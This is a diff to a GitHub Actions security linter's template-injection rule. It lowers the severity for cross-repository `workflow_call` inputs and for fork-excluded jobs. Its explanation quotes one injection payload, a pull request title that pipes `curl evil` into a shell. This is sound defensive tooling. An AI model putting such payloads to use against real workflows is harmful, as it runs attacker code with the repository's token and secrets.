@@ -10,7 +10,7 @@ rule! {
     code: "GHA002", name: "template-injection", severity: Error, category: Security, default: true, fix: Unsafe,
     peers: ["zizmor:template-injection", "checkov:CKV_GHA_2", "actionlint:expression"], options: [],
     summary: "Attacker-controlled values expanded into a shell script or github-script",
-    what: "Flags `${{ }}` expressions in `run:` (and `actions/github-script`'s `script:`) that read values an outsider controls: issue, pull request, comment, review and commit titles, bodies, messages, branch names (`github.head_ref`), author names and emails. Values no outsider can choose (`github.sha`, `github.run_id`, `*.sha`, numbers, booleans, `steps.*.outcome`) are never flagged, nor are expressions whose result is a boolean whatever they read (`==`, `!=`, `<`, `!`, `contains()`, `startsWith()`, `endsWith()`); other `github.event.*` fields are flagged with medium confidence, and label, milestone and workflow names (set by people with triage access) and release fields such as `github.event.release.tag_name` or `.name` (only people with write access publish a release, and they can already run any code in the workflows) as info with medium confidence, shown when the rule is named. `inputs.X` of a `workflow_dispatch` or `workflow_call` input of type `string` may be free text too. A `workflow_call` input is judged by what this repository's own callers (jobs with `uses: ./.github/workflows/<this file>`) pass to it under `with:`, as if they expanded it in `run:`: an outsider-set value (`github.event.pull_request.title`) makes it an error that names the caller, a value people with triage access set, or the caller's own string input passed on, a warning with medium confidence (write access: info); when every caller passes values no outsider chooses (numbers, SHAs, matrix values, job outputs) it is not flagged, since a caller in another repository runs the workflow with its own token and secrets and gains nothing by injecting. With no caller in the repository (or no repository to read) it is free text from whoever calls the workflow: a warning with medium confidence. A `workflow_dispatch` input is info with medium confidence, shown when the rule is named (starting the workflow takes write access, which can already run any code). `boolean`, `number`, `choice` and `environment` inputs, and composite actions' untyped inputs, are not flagged.",
+    what: "Flags `${{ }}` expressions in `run:` (and `actions/github-script`'s `script:`) that read values an outsider controls: issue, pull request, comment, review and commit titles, bodies, messages, branch names (`github.head_ref`), author names and emails. Values no outsider can choose (`github.sha`, `github.run_id`, `*.sha`, numbers, booleans, `steps.*.outcome`) are never flagged, nor are expressions whose result is a boolean whatever they read (`==`, `!=`, `<`, `!`, `contains()`, `startsWith()`, `endsWith()`); other `github.event.*` fields are flagged with medium confidence, and label, milestone and workflow names (set by people with triage access) and release fields such as `github.event.release.tag_name` or `.name` (only people with write access publish a release, and they can already run any code in the workflows) as info with medium confidence, shown when the rule is named. `inputs.X` of a `workflow_dispatch` or `workflow_call` input of type `string` may be free text too. A `workflow_call` input is judged by what this repository's own callers (jobs with `uses: ./.github/workflows/<this file>`) pass to it under `with:`, as if they expanded it in `run:`: an outsider-set value (`github.event.pull_request.title`) makes it an error that names the caller, a value people with triage access set, or the caller's own string input passed on, a warning with medium confidence (write access: info); when every caller passes values no outsider chooses (numbers, SHAs, matrix values, job outputs) it is not flagged, since a caller in another repository runs the workflow with its own token and secrets and gains nothing by injecting. With no caller in the repository (or no repository to read) it is free text from whoever calls the workflow, which runs it with its own token and secrets: info with medium confidence. A `workflow_dispatch` input is info with medium confidence, shown when the rule is named (starting the workflow takes write access, which can already run any code). `boolean`, `number`, `choice` and `environment` inputs, and composite actions' untyped inputs, are not flagged. In a job whose `if:` keeps forks out (`head.repo.fork == false`, `head.repo.full_name == github.repository`), pull request fields are set by people with write access: info.",
     why: "The expression is pasted into the script before the shell runs it, so a pull request titled `\"; curl evil | sh #` runs that command with the workflow's token and secrets.",
     example: "on: issues\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"New issue - ${{ github.event.issue.title }}\"",
     instead: "on: issues\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"New issue - ${ISSUE_TITLE}\"\n        env:\n          ISSUE_TITLE: ${{ github.event.issue.title }}",
@@ -335,10 +335,13 @@ fn input_verdict(path: &[String], inputs: &StringInputs, callers: &Option<Vec<Pa
     let (name, dispatch, call) = inputs.read_by(path)?;
     let written = path.join(".");
     if call {
+        // With no caller in the repository, the caller is another repository's workflow: it runs
+        // this one with its own token and secrets, so what its author passes is their own code
+        // (nautobot's plugin test workflow, judged not worth a default finding): info.
         let Some(passed) = callers else {
             let who = if dispatch { "runs or calls" } else { "calls" };
             return Some((
-                Severity::Warning,
+                Severity::Info,
                 Confidence::Medium,
                 format!("`{written}` is free text from whoever {who} the workflow and is expanded straight into `{what}:`"),
             ));
@@ -428,7 +431,10 @@ fn check(cx: &Ctx, out: &mut Vec<Diagnostic>) {
     };
     // The repository's callers, read only when a `workflow_call` input is expanded.
     let callers = std::cell::OnceCell::new();
-    for (_, step) in cx.steps() {
+    for (job, step) in cx.steps() {
+        // A job kept from forks' pull requests runs only on branches of people who can push: a
+        // branch name or title there is set by them (kestra's translation job, judged wrong).
+        let fork_excluded = job.is_some_and(crate::model::excludes_forks);
         let mut scripts = Vec::new();
         if let Some(run) = step.get("run") {
             scripts.push(("run", run));
@@ -457,7 +463,8 @@ fn check(cx: &Ctx, out: &mut Vec<Diagnostic>) {
                         v
                     } else {
                         let Some(confidence) = injection_risk(path) else { continue };
-                        match set_by_maintainers(path) {
+                        let access = set_by_maintainers(path).or(fork_excluded.then_some("write"));
+                        match access {
                             // Label names (triage access) and release fields (write access) are
                             // not set by outsiders: a warning.
                             Some(access) => (
